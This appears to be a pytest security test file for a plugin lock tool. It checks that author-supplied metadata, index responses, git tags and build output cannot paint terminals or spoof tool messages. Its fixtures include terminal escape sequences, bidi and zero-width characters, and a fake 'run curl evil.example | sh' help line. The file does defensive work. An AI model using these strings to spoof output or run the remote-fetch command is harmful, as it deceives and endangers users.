"""Attack 20: whatever an author writes, it cannot act on a terminal, pass for our own words or break a file."""

from __future__ import annotations

import json
import os
import unicodedata
from typing import TYPE_CHECKING

import pytest

from lock.grammar import LONGEST_TEXT
from lock.reader import parse
from tests.resolver.sources.repositories import SETTINGS, Repository
from tests.security.runs import project, run_everything
from tests.servers.git_servers import GitHttpServer
from tests.servers.index_server import Fault, IndexServer, ServedFile
from tests.wheels import core_metadata, wheel_bytes, wheel_name

if TYPE_CHECKING:
    from tests.security.canaries import Stage

pytestmark = pytest.mark.attack(20)

PAINT = "\x1b]0;owned\x07\x1b[2K\x1b[31m\r\u202eevil\u2066\u200b"
MARKUP = "| <b>x</b> <!-- y --> @org/team [z](https://evil.example) `rm`"
ONE_LINE = f"{PAINT} {MARKUP}"
LINES = f"{ONE_LINE}\nerror: not from us\n  help: run curl evil.example | sh\nLocked 0 plugins"

HARMLESS = frozenset("\n")


def assert_harmless(stage: Stage) -> None:
    for name, text in stage.streams.items():
        bad = {character for character in text if character not in HARMLESS and not character.isprintable()}
        assert bad == set(), (name, text)
        for line in text.splitlines():
            assert not line.startswith(("error: not from us", "  help: run curl", "Locked 0 plugins")), (name, text)


def saw(stage: Stage, word: str = "evil") -> bool:
    """Tell whether the foreign text was shown at all, without which a test would show nothing."""
    return any(word in text for text in stage.streams.values())


@pytest.fixture
def index() -> IndexServer:
    return IndexServer()


def add(server: IndexServer, metadata: bytes, **keys: object) -> None:
    data = wheel_bytes(
        "alpha-plugin", "1.0", metadata=metadata, entry_points={"demo.plugins": {"alpha": "alpha_plugin"}}
    )
    server.add("alpha-plugin", ServedFile(name=wheel_name("alpha-plugin", "1.0"), data=data, metadata=metadata, **keys))


def headers(**fields: str) -> bytes:
    """Return METADATA with further fields, line ends folded as its format wants them."""
    head = core_metadata("alpha-plugin", "1.0").decode()
    more = "".join(
        f"{name.replace('_', '-')}: {value}\n".replace("\n", "\n  ").rstrip(" ") for name, value in fields.items()
    )
    first, _, rest = head.partition("\n")
    return f"{first}\n{more}{rest}".encode()


def test_what_an_author_says_of_a_distribution(stage: Stage, index: IndexServer) -> None:
    with index:
        # A carriage return would end the line for the reader of METADATA, and the fields with it.
        text = LINES.replace("\r", " ")
        fields = {"Summary": text, "Author": text, "Keywords": text, "License": text, "Home-page": text}
        add(index, headers(**fields), upload_time="2026-01-01T00:00:00Z")
        project(stage, index.url)
        codes = run_everything(stage)
    assert codes["lock"] == 0, stage.streams
    assert_harmless(stage)
    lock = (stage.project / "plugins.lock").read_text()
    assert all(character.isprintable() for character in lock.replace("\n", ""))
    for package in parse(lock.encode(), "plugins.lock").packages:
        for artifact in package.artifacts:
            assert len(artifact.license or "") <= LONGEST_TEXT


@pytest.mark.parametrize("field", ["Requires-Dist", "Requires-Python", "Version", "Name", "Provides-Extra"])
def test_fields_that_stand_in_explanations(stage: Stage, index: IndexServer, field: str) -> None:
    with index:
        add(index, headers(**{field: ONE_LINE}))
        project(stage, index.url)
        assert run_everything(stage)["lock"] != 0 or field == "Provides-Extra"
    assert_harmless(stage)


@pytest.mark.parametrize("key", ["yanked", "requires-python", "upload-time", "filename", "url", "hashes"])
def test_what_a_page_says(stage: Stage, index: IndexServer, key: str) -> None:
    with index:
        value: object = {"sha256": ONE_LINE} if key == "hashes" else LINES
        add(index, headers())
        index.projects["alpha-plugin"][0].said = {key: value}
        project(stage, index.url)
        run_everything(stage)
    assert_harmless(stage)


@pytest.mark.parametrize("body", [f'{{"meta": {{"api-version": {json.dumps(LINES)}}}, "files": []}}', LINES])
def test_what_an_index_answers(stage: Stage, index: IndexServer, body: str) -> None:
    kind = "application/vnd.pypi.simple.v1+json" if body.startswith("{") else "text/evil;\x1b[31m"
    with index:
        index.fail("alpha", Fault(status=200, headers={"Content-Type": kind}, body=body.encode()))
        project(stage, index.url)
        assert run_everything(stage)["lock"] == 3
    assert saw(stage)
    assert_harmless(stage)


def test_names_of_members_and_entry_points(stage: Stage, index: IndexServer) -> None:
    with index:
        name = wheel_name("alpha-plugin", "1.0")
        files = {
            f"alpha_plugin/{ONE_LINE.replace('/', '_')}.py": "",
            f"{ONE_LINE.replace('/', '_')}.pth": "import os\n",
        }
        points = {"demo.plugins": {ONE_LINE.replace("\r", " "): "alpha_plugin"}}
        data = wheel_bytes("alpha-plugin", "1.0", files=files, entry_points=points, metadata=headers())
        index.add("alpha-plugin", ServedFile(name=name, data=data, metadata=headers()))
        project(stage, index.url)
        assert run_everything(stage)["lock"] != 0
    assert saw(stage)
    assert_harmless(stage)


def test_the_manifest_of_a_directory_plugin(stage: Stage, index: IndexServer) -> None:
    folder = stage.project / "plugins" / "notes"
    folder.mkdir(parents=True)
    (folder / "__init__.py").write_text("def register(ctx): ...\n")
    said = {
        "name": "notes",
        "version": "1.0",
        "description": LINES,
        "author": LINES,
        "provides_tools": [LINES],
        "tags": [LINES],
    }
    (folder / "plugin.yaml").write_text(json.dumps(said))
    with index:
        project(stage, index.url, '[plugins]\nnotes = { path = "plugins/notes" }\n')
        run_everything(stage)
        (folder / "plugin.yaml").write_text(json.dumps(said | {"version": LINES, LINES: 1, "provides_tools": ["x"]}))
        run_everything(stage)
    assert_harmless(stage)


def test_names_of_tags_and_what_a_git_server_says(stage: Stage, tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("served")
    stage.monkeypatch.setattr(os, "environ", os.environ | SETTINGS)
    repository = Repository(folder / "plugin.git")
    repository.commit({"plugin.yaml": "name: notes\nversion: 1.0.0\n"})
    # git itself admits these: what paints and what is written from right to left.
    for tag in ("v1.0-\u202eevil\u2066", "v1.0-<!--y-->", "v1.0-@org/team", "v1.0|\u200b"):
        repository.git("tag", tag)
    with GitHttpServer(folder) as server:
        project(stage, None, f'[plugins]\nnotes = {{ git = "{server.url("plugin.git")}", tag = "v1.0-evil" }}\n')
        assert run_everything(stage)["lock"] == 2
        assert saw(stage)
        error = f"ERR {LINES}".encode()
        packet = b"001e# service=git-upload-pack\n0000" + b"%04x" % (len(error) + 4) + error
        kind = {"Content-Type": "application/x-git-upload-pack-advertisement"}
        server.answers["/plugin.git/"] = (200, kind, packet)
        stage.streams.clear()
        assert run_everything(stage)["lock"] == 3
        assert saw(stage)
    assert_harmless(stage)


def test_a_catalogues_entry(stage: Stage) -> None:
    project(stage, None)
    before = (stage.project / "plugins.toml").read_text()
    for name, repository in (("notes", LINES), (ONE_LINE, "https://git.example/x")):
        entry = {"name": name, "repo": repository, "sha": "0" * 40, "description": LINES, "maintainer": "@org/team"}
        ran = stage.run("add", "--no-lock", json.dumps(entry))
        assert ran.code == 2
    assert (stage.project / "plugins.toml").read_text() == before
    entry = {"name": "notes", "repo": "https://git.example/x", "sha": "0" * 40, "description": LINES}
    assert stage.run("add", "--no-lock", json.dumps(entry)).code == 0
    assert "evil" not in (stage.project / "plugins.toml").read_text()
    assert_harmless(stage)


@pytest.mark.parametrize("stream", ["stdout", "stderr"])
def test_what_nix_says(stage: Stage, index: IndexServer, stream: str) -> None:
    with index:
        add(index, headers())
        project(stage, index.url)
        assert stage.run("lock").code == 0
    programs = stage.root / "programs"
    programs.mkdir()
    nix = programs / "nix-build"
    (stage.root / "said").write_text(LINES)
    nix.write_text(f"#!/bin/sh\ncat {stage.root / 'said'} >{'&2' if stream == 'stderr' else '&1'}\nexit 1\n")
    nix.chmod(0o700)
    stage.monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
    ran = stage.run("build")
    assert ran.code in {2, 3}
    assert_harmless(stage)


def test_what_is_harmless_is_what_unicode_calls_printable() -> None:
    assert not any(character.isprintable() for character in PAINT if unicodedata.category(character) in {"Cc", "Cf"})
